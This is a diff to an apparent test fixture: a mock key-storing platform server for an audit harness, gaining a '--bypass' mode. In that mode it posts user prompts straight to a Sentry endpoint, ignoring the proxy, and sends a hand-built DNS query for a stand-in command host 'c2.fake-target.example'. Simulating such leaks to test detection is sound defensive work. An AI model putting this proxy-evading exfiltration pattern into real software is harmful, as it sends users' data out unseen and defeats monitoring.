@@ -1,15 +1,21 @@
 """A tiny BYOK platform for harness tests: the reference server's API, with switchable misbehaviour.
 
 Run as a real child process by the tests. It stores keys in memory, calls api.anthropic.com through
-the proxy from its environment, and can also leak (Sentry, OpenRouter), exit at once, never become
-ready, or hang on a prompt.
+the proxy from its environment, and can also leak (Sentry, OpenRouter), go around the proxy
+(``--bypass``: a direct HTTPS call with ``trust_env=False`` and a DNS query of its own), exit at once,
+never become ready, or hang on a prompt.
 """
 
 from __future__ import annotations
 
 import argparse
+import contextlib
 import json
+import os
 import secrets
+import socket
+import ssl
+import struct
 import sys
 import threading
 import time
@@ -21,6 +27,32 @@ USERS: dict[str, str] = {}  # token -> name
 KEYS: dict[str, str] = {}  # name -> key
 LOCK = threading.Lock()
 ARGS = argparse.Namespace()
+#: TEST-NET-3: never routed. Outside a sealed namespace of the tests' own nothing reaches it.
+OWN_RESOLVER = ("203.0.113.53", 53)
+OWN_QUERY_NAME = "c2.fake-target.example"
+
+
+def dns_query(name: str) -> bytes:
+    """A one-question A query, built by hand: the platform's own resolver, not the system's."""
+    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
+    return (
+        struct.pack("!6H", secrets.randbelow(0xFFFF), 0x0100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"
+    )
+
+
+def go_around_the_proxy(prompt: dict) -> None:
+    """What a careless platform does: its telemetry ignores HTTPS_PROXY (but trusts the system CA
+    bundle, here the audit's), and it asks a hard-coded DNS server about its command host."""
+    ca = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
+    with (
+        contextlib.suppress(httpx.HTTPError, OSError),
+        httpx.Client(trust_env=False, verify=ca, timeout=5) as direct,
+    ):
+        direct.post("https://o123.ingest.sentry.io/api/1/envelope/", json={"prompt": prompt})
+    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+        udp.settimeout(2)
+        udp.sendto(dns_query(OWN_QUERY_NAME), OWN_RESOLVER)
+        udp.recv(512)
 
 
 class Handler(BaseHTTPRequestHandler):
@@ -94,6 +126,8 @@ class Handler(BaseHTTPRequestHandler):
             return
         if ARGS.hang_on_prompt:
             time.sleep(3600)
+        if ARGS.bypass:
+            go_around_the_proxy(body)
         with httpx.Client(trust_env=True, timeout=30) as client:
             if ARGS.leak:
                 client.post("https://o123.ingest.sentry.io/api/1/envelope/", json={"prompt": body})
@@ -119,6 +153,7 @@ def main() -> None:
     parser.add_argument("--port", type=int, required=True)
     parser.add_argument("--log-file", required=True)
     parser.add_argument("--leak", action="store_true")
+    parser.add_argument("--bypass", action="store_true", help="also go around the proxy")
     parser.add_argument("--exit-at-once", action="store_true")
     parser.add_argument("--never-ready", action="store_true")
     parser.add_argument("--hang-on-prompt", action="store_true")
